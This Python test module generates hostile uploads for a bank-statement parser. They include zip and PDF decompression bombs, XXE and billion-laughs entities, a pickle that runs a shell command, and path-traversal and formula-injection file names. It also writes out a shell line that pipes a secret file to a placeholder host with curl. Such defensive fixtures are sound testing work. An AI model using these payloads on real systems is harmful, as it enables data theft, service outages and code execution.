"""Hostile files: bombs, loops, entities, lies, polyglots, wrong names and absurd numbers.

`hostile_files` makes them all anew; `canary` is an address that nobody may call and `secret` a file
that nobody may read. Each is to end in rows or in a named refusal, quickly and without harm.
"""

# ruff: noqa: E501, PLW0108  files are long lines; each is made only when it is needed

from __future__ import annotations

import gzip
import io
import json
import struct
import tarfile
import zlib
from collections.abc import Callable, Iterator

from statements.tests.parsers import workbooks
from statements.tests.parsers.workbooks import zipped

CSV = "Date,Description,Amount,Balance\n2024-03-24,Client,100.00,100.00\n"
ROW = "2024-03-25,Shop,-10.00,90.00\n"
OFX = (
    "<OFX><BANKMSGSRSV1><STMTTRNRS><STMTRS><CURDEF>EUR<BANKACCTFROM><ACCTID>1</BANKACCTFROM>"
    "<BANKTRANLIST>{}</BANKTRANLIST></STMTRS></STMTTRNRS></BANKMSGSRSV1></OFX>"
)
ENTRY = "<STMTTRN><TRNTYPE>DEBIT<DTPOSTED>20240301<TRNAMT>{}<FITID>1<NAME>x</STMTTRN>"
CAMT = (
    '<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"><BkToCstmrStmt><Stmt>'
    "<Acct><Id><IBAN>DE89370400440532013000</IBAN></Id><Ccy>EUR</Ccy></Acct>{}</Stmt>"
    "</BkToCstmrStmt></Document>"
)
NTRY = (
    '<Ntry><Amt Ccy="EUR">{}</Amt><CdtDbtInd>CRDT</CdtDbtInd><Sts>BOOK</Sts>'
    "<BookgDt><Dt>2024-03-01</Dt></BookgDt></Ntry>"
)
MT940 = ":20:X\r\n:25:NL91ABNA0417164300\r\n:28C:1\r\n:60F:C240101EUR1,00\r\n{}:62F:C240131EUR1,00\r\n-\r\n"
QIF = "!Type:Bank\n{}"
XML = '<?xml version="1.0"?>'
SHEET = "xl/worksheets/sheet1.xml"

Made = tuple[str, bytes]  # the name under which it is uploaded, its content


def xlsx(sheet: str, **more: str) -> bytes:
    """`sheet`: what stands in the worksheet, or all of its part."""
    whole = {SHEET: sheet} if sheet.startswith("<?") else {}
    return workbooks.xlsx(sheet, extra=whole | more)


def ods(table: str) -> bytes:
    office = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
    return zipped(
        {
            "mimetype": "application/vnd.oasis.opendocument.spreadsheet",
            "content.xml": f'{XML}<office:document-content xmlns:office="{office}" '
            'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
            'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body>'
            f"<office:spreadsheet>{table}</office:spreadsheet></office:body>"
            "</office:document-content>",
            "META-INF/manifest.xml": XML
            + '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>',
        }
    )


def pdf(*objects: bytes, root: int = 1) -> bytes:
    """A PDF of `objects`, numbered from 1, with an honest cross-reference table."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer << /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        *(len(objects) + 1, root, start),
    )
    return bytes(out)


def stream(content: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), extra, content)


def page(content: bytes, extra: bytes = b"", catalog: bytes = b"") -> bytes:
    """One page whose content stream object is `content`."""
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R "
        b"/Resources << /Font << /F 5 0 R >> >> %s >>" % extra,
        content,
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    )


def text(*lines: str) -> bytes:
    drawn = "".join(f"1 0 0 1 50 {780 - 14 * n} Tm ({line}) Tj " for n, line in enumerate(lines))
    return f"BT /F 10 Tf {drawn} ET".encode()


def hostile_files(*, canary: str, secret: str) -> Iterator[tuple[str, Made]]:
    """(what it is, (file name, content)) of each."""
    for makers in (_tables, _xml, _statements, _archives, _pdfs, _others, _names):
        for what, name, make in makers(canary, secret):
            yield what, (name, make())


Maker = tuple[str, str, Callable[[], bytes]]


def _tables(canary: str, secret: str) -> list[Maker]:
    link = f'=WEBSERVICE("{canary}")'
    return [
        ("one line of 9 MB", "a.csv", lambda: CSV.encode() + b"x" * 9_000_000),
        ("one cell of 9 MB", "a.csv", lambda: CSV.encode() + b'2024-03-25,"' + b"y\n" * 4_500_000),
        ("a million commas a line", "a.csv", lambda: CSV.encode() + b"," * 1_000_000),
        ("4 million empty rows", "a.csv", lambda: CSV.encode() + b",,,\n" * 2_300_000),
        ("300 thousand rows", "a.csv", lambda: (CSV + ROW * 300_000).encode()),
        ("quotes that never close", "a.csv", lambda: (CSV + '2024-03-25,"a,1.00,1.00\n' * 200_000).encode()),
        ("only quotes", "a.csv", lambda: b'"' * 5_000_000),
        ("only line ends", "a.csv", lambda: b"\r" * 9_000_000),
        ("nul bytes inside", "a.csv", lambda: CSV.encode() + ROW.encode().replace(b"S", b"\0") * 50),
        ("formulas", "a.csv", lambda: (CSV + f'2024-03-25,"{link}",=1+1,@SUM(1)\n').encode()),
        ("absurd numbers", "a.csv", lambda: (CSV + "".join(f"2024-03-25,a,{n},1.00\n" for n in ("1e308", "9" * 400, "NaN", "-inf", "0x41", "1_0", "\u0661\u0662"))).encode()),
        ("absurd dates", "a.csv", lambda: (CSV + "".join(f"{d},a,1.00,1.00\n" for d in ("0000-00-00", "9999-99-99", "2024-02-31", "-1", "1e9"))).encode()),
        ("utf-7", "a.csv", lambda: (CSV + ROW).encode("utf-7")),
        ("utf-32", "a.csv", lambda: (CSV + ROW).encode("utf-32")),
        ("broken utf-8", "a.csv", lambda: CSV.encode() + b"2024-03-25,\xed\xa0\x80\xf8\x88\x80\x80\x80,1.00,101.00\n" * 99),
        ("two hundred byte order marks", "a.csv", lambda: b"\xef\xbb\xbf" * 200 + CSV.encode()),
        ("direction marks", "a.csv", lambda: (CSV + "2024-03-25,\u202e\u2066evil\u0000\u0085,1.00,101.00\n").encode()),
        ("script in a cell", "a.csv", lambda: (CSV + "2024-03-25,<script>alert(1)</script>{{7*7}}%s,1.00,101.00\n").encode()),
        ("a path in every cell", "a.csv", lambda: (CSV + f"2024-03-25,{secret},1.00,101.00\n" + f"file://{secret}").encode()),
        ("only a path", "a.txt", lambda: secret.encode()),
        ("spaces without end", "a.csv", lambda: CSV.encode() + b"2024-03-25," + b" " * 8_000_000 + b",1.00"),
        ("digits without end", "a.csv", lambda: CSV.encode() + b"2024-03-25,a," + b"1" * 90_000 + b",1.00\n"),
        ("a column a letter", "a.csv", lambda: ("\n".join(",".join("a" * 250) for _ in range(18_000))).encode()),
    ]  # fmt: skip


def _xml(canary: str, secret: str) -> list[Maker]:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    laughs = f'<!DOCTYPE a [<!ENTITY l0 "ha">{laughs}]>'
    body = CAMT.format(NTRY.format("1.00"))
    return [
        ("billion laughs", "a.xml", lambda: (XML + laughs + CAMT.format(NTRY.format("&l11;"))).encode()),
        ("quadratic blow-up", "a.xml", lambda: (f'{XML}<!DOCTYPE a [<!ENTITY a "{"a" * 50_000}">]>' + CAMT.format("&a;" * 50_000)).encode()),
        ("entity of a file", "a.xml", lambda: (f'{XML}<!DOCTYPE a [<!ENTITY x SYSTEM "file://{secret}">]>' + CAMT.format(NTRY.format("&x;"))).encode()),
        ("entity of an address", "a.xml", lambda: (f'{XML}<!DOCTYPE a [<!ENTITY x SYSTEM "{canary}">]>' + CAMT.format(NTRY.format("&x;"))).encode()),
        ("parameter entity", "a.xml", lambda: (f'{XML}<!DOCTYPE a [<!ENTITY % p SYSTEM "{canary}"> %p;]>' + body).encode()),
        ("external doctype", "a.xml", lambda: (f'{XML}<!DOCTYPE a SYSTEM "{canary}">' + body).encode()),
        ("doctype in utf-16", "a.xml", lambda: (f'<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a SYSTEM "{canary}">' + body).encode("utf-16")),
        ("doctype behind a long comment", "a.xml", lambda: (f'{XML}<!--{"-a" * 100_000}--><!DOCTYPE a SYSTEM "{canary}">' + body).encode()),
        ("xinclude", "a.xml", lambda: (XML + CAMT.format(f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{secret}" parse="text"/>' + NTRY.format("1.00"))).encode()),
        ("stylesheet", "a.xml", lambda: (f'{XML}<?xml-stylesheet href="{canary}" type="text/xsl"?>' + body).encode()),
        ("schema location", "a.xml", lambda: (XML + body.replace("<Document", f'<Document xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x {canary}"')).encode()),
        ("a million levels", "a.xml", lambda: (XML + CAMT.format("<a>" * 1_000_000)).encode()),
        ("a hundred thousand attributes", "a.xml", lambda: (XML + CAMT.format("<a " + " ".join(f'a{n}="1"' for n in range(100_000)) + "/>")).encode()),
        ("text of 9 MB", "a.xml", lambda: (XML + CAMT.format(NTRY.format("1" * 9_000_000))).encode()),
        ("comment in the amount", "a.xml", lambda: (XML + CAMT.format(NTRY.format("1<!-- -->190.00"))).encode()),
        ("cdata that never closes", "a.xml", lambda: (XML + CAMT.format("<![CDATA[" + "x" * 500_000)).encode()),
        ("an encoding that is none", "a.xml", lambda: ('<?xml version="1.0" encoding="x-evil"?>' + body).encode()),
        ("cut in mid-tag", "a.xml", lambda: (XML + body)[:-40].encode()),
        ("no currency, no sign", "a.xml", lambda: (XML + CAMT.format("<Ntry><Amt>NaN</Amt></Ntry>" * 1000)).encode()),
        ("two documents", "a.xml", lambda: (XML + body + body).encode()),
    ]  # fmt: skip


def _statements(canary: str, secret: str) -> list[Maker]:
    return [
        ("entity in ofx", "a.ofx", lambda: (f'{XML}<!DOCTYPE OFX [<!ENTITY x SYSTEM "file://{secret}">]>' + OFX.format(ENTRY.format("&x;"))).encode()),
        ("ofx nested without end", "a.ofx", lambda: OFX.format("<STMTTRN>" * 500_000).encode()),
        ("ofx tag of 9 MB", "a.ofx", lambda: ("<OFX><" + "A" * 9_000_000 + ">").encode()),
        ("ofx amounts that are none", "a.ofx", lambda: OFX.format("".join(ENTRY.format(n) for n in ("NaN", "1e999", "sNaN", "\u0661", "1,2,3"))).encode()),
        ("ofx cut", "a.qfx", lambda: OFX.format(ENTRY.format("1.00") * 50)[:-90].encode()),
        ("300 thousand ofx rows", "a.ofx", lambda: OFX.format(ENTRY.format("1") * 130_000).encode()),
        ("mt940 that is a path", "a.mt940", lambda: f":20:{secret}\r\n:25:{secret}\r\n".encode()),
        ("mt940 lines of 9 MB", "a.sta", lambda: MT940.format(":61:" + "2" * 9_000_000 + "\r\n").encode()),
        ("mt940 amounts that are none", "a.sta", lambda: MT940.format("".join(f":61:2401010101C{n}NTRFX\r\n" for n in ("1,1,1", "NaN", "9" * 60 + ",", "\u0661,", ","))).encode()),
        ("mt940 :86: without end", "a.sta", lambda: MT940.format(":61:2401010101C1,NTRFX\r\n:86:" + "?20x\r\n" * 1_000_000).encode()),
        ("mt940 envelopes in envelopes", "a.sta", lambda: ("{1:" * 500_000 + MT940.format("")).encode()),
        ("qif splits without end", "a.qif", lambda: QIF.format("D3/24/2024\nT-10.00\n" + "SX\n$1\n" * 900_000 + "^\n").encode()),
        ("qif that never ends", "a.qif", lambda: QIF.format("D1/1'24\nT1\n" * 700_000).encode()),
        ("qif dates that are none", "a.qif", lambda: QIF.format("".join(f"D{d}\nT1\n^\n" for d in ("99/99/99", "0/0'0", "1/1'9999", "x"))).encode()),
        ("json without a floor", "a.txt", lambda: (b"[" * 2_000_000)),
        ("a page of html", "a.xls", lambda: f'<html><img src="{canary}"><table><tr><td>2024-01-01<td>1</table>'.encode()),
    ]  # fmt: skip


def _archives(canary: str, secret: str) -> list[Maker]:
    rows = "".join(f'<row r="{n}"><c r="A{n}"><v>{45000 + n}</v></c><c r="B{n}"><v>{n}</v></c></row>' for n in range(1, 9))  # fmt: skip
    zeros = b"0" * 400_000_000
    entity = f'{XML}<!DOCTYPE a [<!ENTITY x SYSTEM "file://{secret}">]><worksheet><sheetData><row><c t="inlineStr"><is><t>&x;</t></is></c></row></sheetData></worksheet>'  # fmt: skip
    wide = '<table:table table:name="A"><table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="16384" office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row></table:table>'  # fmt: skip
    return [
        ("sheet of 400 MB in 400 kB", "a.xlsx", lambda: zipped({"[Content_Types].xml": "<a/>", "xl/workbook.xml": "<a/>", SHEET: zeros})),
        ("zip in zip in zip", "a.zip.xlsx", lambda: zipped({"xl/a.zip": zipped({"b.zip": zipped({"c": b"0" * 90_000_000})})})),
        ("a hundred thousand entries", "a.xlsx", lambda: zipped({f"xl/{n}": "" for n in range(65_000)})),
        ("sizes that lie", "a.xlsx", lambda: _lying(xlsx("<sheetData>" + rows * 9000 + "</sheetData>"))),
        ("entries over one another", "a.xlsx", _overlapping),
        ("paths in an archive", "a.xlsx", lambda: zipped({"../../../../tmp/evil": "x", "/etc/evil": "x", "xl/workbook.xml": "<a/>"})),
        ("entity in a sheet", "a.xlsx", lambda: xlsx(entity)),
        ("a link to another book", "a.xlsx", lambda: xlsx(f"<sheetData>{rows}</sheetData>", **{"xl/externalLinks/externalLink1.xml": f'<a href="{canary}"/>'})),
        ("a cell in the last corner", "a.xlsx", lambda: xlsx('<dimension ref="A1:XFD1048576"/><sheetData><row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>')),
        ("a cell beyond every corner", "a.xlsx", lambda: xlsx('<sheetData><row r="99999999999"><c r="ZZZZZZZ99999999999"><v>1</v></c></row></sheetData>')),
        ("a string a hundred thousand times", "a.xlsx", lambda: xlsx("<sheetData>" + '<row><c t="s"><v>0</v></c></row>' * 100_000 + "</sheetData>", **{"xl/sharedStrings.xml": f'<sst><si><t>{"x" * 30_000}</t></si></sst>'})),
        ("a string that is not there", "a.xlsx", lambda: xlsx('<sheetData><row><c t="s"><v>4294967295</v></c></row></sheetData>')),
        ("numbers that are none", "a.xlsx", lambda: xlsx('<sheetData><row><c><v>NaN</v></c><c><v>1e999</v></c><c s="99"><v>-1e300</v></c></row></sheetData>')),
        ("a workbook without sheets", "a.xlsx", lambda: zipped({"xl/workbook.xml": "<workbook/>"})),
        ("a cut archive", "a.xlsx", lambda: xlsx(f"<sheetData>{rows}</sheetData>")[:-120]),
        ("an ods of 17 thousand million cells", "a.ods", lambda: ods(wide)),
        ("an ods without end", "a.ods", lambda: ods("<table:table>" * 300_000)),
        ("an encrypted book of noise", "a.xlsx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(range(256)) * 40),
        ("an ole file whose chain is a ring", "a.xls", _ring),
        ("an ole header", "a.xls", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
    ]  # fmt: skip


def _lying(content: bytes) -> bytes:
    """Every uncompressed size said to be one byte, in both directories."""
    changed = bytearray(content)
    for mark, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = changed.find(mark)
        while start >= 0:
            changed[start + at : start + at + 4] = struct.pack("<I", 1)
            start = changed.find(mark, start + 4)
    return bytes(changed)


def _overlapping() -> bytes:
    """Two hundred names for the same 40 MB of zeros."""
    packed = zlib.compress(b"0" * 40_000_000)[2:-4]
    body = struct.pack(
        "<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0, 0, len(packed), 40_000_000, 1, 0
    )
    body += b"x" + packed
    entries = b""
    for number in range(200):
        name = b"xl/worksheets/sheet%d.xml" % number
        entries += struct.pack(
            "<4sHHHHHHIIIHHHHHII",
            *(b"PK\x01\x02", 20, 20, 0, 8, 0, 0, 0, len(packed), 40_000_000, len(name)),
            *(0, 0, 0, 0, 0, 0),
        )
        entries += name
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 200, 200, len(entries), len(body), 0)
    return body + entries + end


def _ring() -> bytes:
    """A compound file whose allocation table leads back to itself."""
    head = bytearray(512)
    head[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", head, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIIII", head, 44, 1, 1, 0, 4096, 0, 0, 0, 0, 0)
    return bytes(head) + struct.pack("<I", 0) * 128 + b"\0" * 512


def _pdfs(canary: str, secret: str) -> list[Maker]:
    bomb = zlib.compress(b"0 0 m " * 60_000_000, 9)
    letters = zlib.compress(b"BT /F 1 Tf " + b"(x) Tj " * 9_000_000 + b"ET", 9)
    kids = b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>"
    lines = ("Date Description Amount Balance", "2024-03-24 Client 100.00 100.00", "2024-03-25 Shop -10.00 90.00")  # fmt: skip
    action = f"/OpenAction << /S /URI /URI ({canary}) >> /AA << /O << /S /JavaScript /JS (app.launchURL\\('{canary}'\\)) >> >>".encode()  # fmt: skip
    return [
        ("only a head", "a.pdf", lambda: b"%PDF-1.7\n"),
        ("a page tree that is a ring", "a.pdf", lambda: pdf(b"<< /Type /Catalog /Pages 2 0 R >>", kids)),
        ("four thousand million pages", "a.pdf", lambda: pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 4294967295 >>")),
        ("a page of 360 MB in 360 kB", "a.pdf", lambda: page(stream(bomb, b"/Filter /FlateDecode"))),
        ("nine million letters", "a.pdf", lambda: page(stream(letters, b"/Filter /FlateDecode"))),
        ("a filter on a filter on a filter", "a.pdf", lambda: page(stream(zlib.compress(b"0" * 900), b"/Filter [" + b"/FlateDecode " * 50_000 + b"]"))),
        ("a page without end", "a.pdf", lambda: page(stream(text(*lines)), b"/MediaBox [0 0 1e38 1e38] /UserUnit 1e9")),
        ("arrays in arrays", "a.pdf", lambda: page(b"[" * 500_000)),
        ("a content that is itself", "a.pdf", lambda: page(b"4 0 R")),
        ("a form that draws itself", "a.pdf", lambda: page(stream(b"/X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 4 0 R >> >>"), b"/Resources << /XObject << /X 4 0 R >> >>")),
        ("actions and scripts", "a.pdf", lambda: page(stream(text(*lines)), b"", action)),
        ("a font from elsewhere", "a.pdf", lambda: page(stream(text(*lines), f"/F << /FS /URL /F ({canary}) >>".encode()))),
        ("an unknown lock", "a.pdf", lambda: page(stream(text(*lines))).replace(b"trailer << ", b"trailer << /Encrypt << /Filter /Evil /V 99 /R 99 >> ")),
        ("a cut pdf", "a.pdf", lambda: page(stream(text(*lines)))[:-200]),
        ("a table of contents that points at itself", "a.pdf", lambda: page(stream(text(*lines))).replace(b"trailer << ", b"trailer << /Prev 9 /XRefStm 9 ")),
        ("text that is a script", "a.pdf", lambda: page(stream(text("<script>alert\\(1\\)</script>", f"=WEBSERVICE\\({canary}\\)", *lines)))),
    ]  # fmt: skip


def _others(canary: str, secret: str) -> list[Maker]:
    def tar() -> bytes:
        out = io.BytesIO()
        with tarfile.open(fileobj=out, mode="w") as archive:
            info = tarfile.TarInfo("../../evil.csv")
            info.size = len(CSV)
            archive.addfile(info, io.BytesIO(CSV.encode()))
        return out.getvalue()

    return [
        ("a pdf that is a zip as well", "a.pdf", lambda: b"%PDF-1.7\n" + zipped({"a.csv": CSV})),
        ("a picture with a table behind it", "a.csv", lambda: b"GIF89a" + CSV.encode()),
        ("a program", "a.xlsx", lambda: b"\x7fELF" + bytes(9000)),
        ("a picture named pdf", "a.pdf", lambda: b"\x89PNG\r\n\x1a\n" + bytes(900)),
        ("gzip of 300 MB", "a.csv", lambda: gzip.compress(b"0" * 300_000_000)),
        ("a tape archive", "a.csv", tar),
        ("a shell script", "a.csv", lambda: f"#!/bin/sh\ncat {secret} | curl -d @- {canary}\n".encode()),
        ("a pickle", "a.csv", lambda: b"cos\nsystem\n(S'touch /tmp/evil'\ntR."),
        ("a database", "a.csv", lambda: b"SQLite format 3\0" + bytes(9000)),
        ("nothing but zeros", "a.csv", lambda: bytes(9_000_000)),
        ("every byte there is", "a.txt", lambda: bytes(range(256)) * 30_000),
        ("json", "a.txt", lambda: json.dumps([{"date": "2024-01-01", "amount": 1}]).encode()),
    ]  # fmt: skip


def _names(canary: str, secret: str) -> list[Maker]:
    names = {
        "a way up": "../../../../etc/cron.d/evil.csv",
        "a way up, the other way": "..\\..\\windows\\evil.csv",
        "an absolute name": "/etc/passwd.csv",
        "a script for a name": "<img src=x onerror=alert(1)>.csv",
        "a name that turns round": "invoice\u202efdp.csv",
        "a name of 5000 letters": "a" * 5000 + ".csv",
        "a name with line ends": "a\r\nSet-Cookie: x=1\r\n.csv",
        "a device for a name": "CON.csv",
        "a name that is a formula": "=cmd|'/c calc'!A1.csv",
        "two endings": "a.pdf.csv",
    }
    return [
        (what, name, lambda what=what: (CSV + f"2024-03-26,{what},1.00,101.00\n").encode())
        for what, name in names.items()
    ]
